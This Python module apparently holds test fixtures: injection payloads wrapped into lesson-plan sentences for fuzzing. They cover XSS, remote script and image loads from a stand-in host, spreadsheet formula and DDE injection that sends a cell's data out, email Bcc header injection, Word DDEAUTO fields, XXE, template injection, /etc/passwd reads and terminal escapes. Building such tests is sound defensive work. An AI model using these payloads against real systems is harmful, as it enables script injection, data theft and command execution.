"""Words that want to be more than words: in a page, a table, a mail, a Word field, a terminal."""

from __future__ import annotations

# Each sets window.hurt, opens a box or asks another computer, wherever it becomes part of a page.
PAGE = (
    "<script>window.hurt=1</script>",
    "</script><script>window.hurt=1</script>",
    "<ScRiPt src=http://192.0.2.1/x.js></sCrIpT>",
    "<scr<script>ipt>window.hurt=1</scr</script>ipt>",
    "<img src=x onerror=window.hurt=1>",
    "<img src=http://192.0.2.1/seen.png>",
    "<img/src='x'/onerror='window.hurt=1'>",
    '<IMG """><SCRIPT>window.hurt=1</SCRIPT>">',
    "<svg onload=window.hurt=1>",
    "<svg><script>window.hurt=1</script></svg>",
    "<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.hurt=1'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1></style></table></math>",
    "<math><a xlink:href='javascript:window.hurt=1'>x</a></math>",
    "<iframe src=javascript:window.hurt=1></iframe>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.hurt=1</script>'></object>",
    "<embed src=http://192.0.2.1/x.swf>",
    "<link rel=stylesheet href=http://192.0.2.1/x.css>",
    "<style>@import 'http://192.0.2.1/x.css';</style>",
    "<style>body{background:url(http://192.0.2.1/x)}</style>",
    "<base href=http://192.0.2.1/>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<form action=http://192.0.2.1/><button>as needed</button></form>",
    "<input autofocus onfocus=window.hurt=1>",
    "<details open ontoggle=window.hurt=1>",
    "<video><source onerror=window.hurt=1></video>",
    "<audio src=http://192.0.2.1/x autoplay>",
    "<body onload=window.hurt=1>",
    "<marquee onstart=window.hurt=1>",
    "<a href='javascript:window.hurt=1'>as needed</a>",
    "<a href='data:text/html,<script>opener.hurt=1</script>' target=_blank>x</a>",
    "<template><script>window.hurt=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hurt=1>'>",
    "<!--<img src='--><img src=x onerror=window.hurt=1>'>",
    "<![CDATA[<script>window.hurt=1</script>]]>",
    "<?xml-stylesheet href='javascript:window.hurt=1'?>",
    "\" onmouseover=\"window.hurt=1\" x=\"",
    "' onfocus='window.hurt=1' autofocus x='",
    "`-window.hurt=1-`",
    "'-window.hurt=1-'",
    "\\\";window.hurt=1;//",
    "</textarea><script>window.hurt=1</script>",
    "</title><script>window.hurt=1</script>",
    "</style><script>window.hurt=1</script>",
    "</p></blockquote></main><h1 id=step-heading>Fake</h1>",
    "&lt;script&gt;window.hurt=1&lt;/script&gt;",
    "&#60;script&#62;window.hurt=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.hurt=1&#x3e;",
    "%3Cscript%3Ewindow.hurt=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hurt=1\\u003c/script\\u003e",
    "＜script＞window.hurt=1＜/script＞",
    "{{ 7*7 }} {{ constructor.constructor('window.hurt=1')() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${window.hurt=1} #{7*7} <%= 7*7 %>",
    "javascript:window.hurt=1//",
)  # fmt: skip
MARKDOWN = (
    "[as needed](javascript:window.hurt=1)",
    "![seen](http://192.0.2.1/seen.png)",
    "<http://192.0.2.1/> http://192.0.2.1/auto",
    "[x]: http://192.0.2.1/ 'as needed'",
    "**bold** _slanted_ ~~struck~~ `code` > quote",
    "| a | b | |---|---|",
    ":red[as needed] :red-background[x] :material/delete: :smile: :streamlit:",
    "$\\href{javascript:window.hurt=1}{as needed}$ $$x^2$$",
    "# Heading --- * * *",
)
TABLE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1","x")',
    "=IMPORTXML(CONCAT(\"http://192.0.2.1/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc",
    "＝1+1", "＠SUM(1)", "\t=1+1", "\r=1+1", "'=1+1", '";=1+1', "%0A=1+1", "=\u200b1+1",
)  # fmt: skip
HEADERS = (
    "x\r\nBcc: other@192.0.2.1", "x\nBcc: other@192.0.2.1", "x\rBcc: other@192.0.2.1",
    "x\r\n\r\n<script>window.hurt=1</script>", "x\u2028Bcc: other@192.0.2.1",
    "x\u2029Bcc: other@192.0.2.1", "x\u0085Bcc: other@192.0.2.1", "x\x0bBcc: other@192.0.2.1",
    "x%0d%0aBcc:other@192.0.2.1", "x&bcc=other@192.0.2.1", "x?bcc=other@192.0.2.1",
    "=?utf-8?q?x=0D=0ABcc:_other@192.0.2.1?=", '"x" <other@192.0.2.1>, more@192.0.2.1',
    "boundary=\"x\" --===============0==",
)  # fmt: skip
FIELDS = (
    'HYPERLINK "javascript:alert(1)"', 'INCLUDEPICTURE "http://192.0.2.1/x"', "{ DDEAUTO cmd }",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:t>", "]]>&xxe;<!ENTITY",
    "#eval(\"1+1\") #read(\"/etc/passwd\") #image(\"/etc/passwd\") @label $ \\",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b]8;;http://192.0.2.1\x07link\x1b]8;;\x07",
    "\x9b31mred", "\x90q\x9c", "\x1b[6n", "a\bb\x7f", "\u202eneerg\u202c", "\u2066x\u2069", "[red]as[/red]",
    "[link=http://192.0.2.1]as needed[/link]", ":pile_of_poo:", "\r\x1b[Kgone",
)  # fmt: skip

ALL = (*PAGE, *MARKDOWN, *TABLE, *HEADERS, *FIELDS, *TERMINAL)


def lines() -> list[str]:
    """Return a line of a plan for each payload, with vague words before and after it."""
    return [f"Visual supports as needed {payload} when possible in class." for payload in ALL]
